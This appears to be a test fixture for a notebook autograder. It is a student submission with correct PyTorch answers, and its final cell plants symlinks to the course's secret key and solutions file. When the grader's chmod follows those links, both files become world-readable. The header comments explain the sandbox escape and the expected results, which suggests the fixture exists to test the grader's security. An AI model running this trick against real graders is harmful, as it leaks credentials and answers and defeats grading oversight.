# Sandbox escape through the grader: plants symlinks in its writable staging folder
# (autograded/<student>/.tensors.partial) to the course's secret key (.graders/secret, mode 0600)
# and to the solutions (source/tensors/tensors.ipynb). After the folder is moved into place,
# nbgrader's set_permissions walks it and os.chmod()s every "file" to 0444, following the links:
# the secret key and the solutions become world-readable; the links stay in autograded/.
# A secure grader never follows links planted by a submission.
# Check: modes of .graders/secret and source/tensors/tensors.ipynb after the run.
# expect single_layer_sum: full
# expect single_layer_mm: full
# expect multilayer: full
# expect numpy_bridge: full
# %% single_layer_sum
y = activation(torch.sum(features * weights) + bias)
# %% single_layer_mm
y = activation(torch.mm(features, weights.view(5, 1)) + bias)
# %% multilayer
h = activation(torch.mm(features, W1) + B1)
output = activation(torch.mm(h, W2) + B2)
# %% numpy_bridge
b = torch.from_numpy(a)
b.mul_(2)
# %% after test_numpy_bridge_doubled
import os as _os
for _name, _target in (("key.txt", "../../../.graders/secret"),
                       ("solutions.txt", "../../../source/tensors/tensors.ipynb")):
    try:
        _os.symlink(_target, _name)
        print("planted", _name, "->", _target)
    except OSError as _err:
        print("no symlink:", _err)
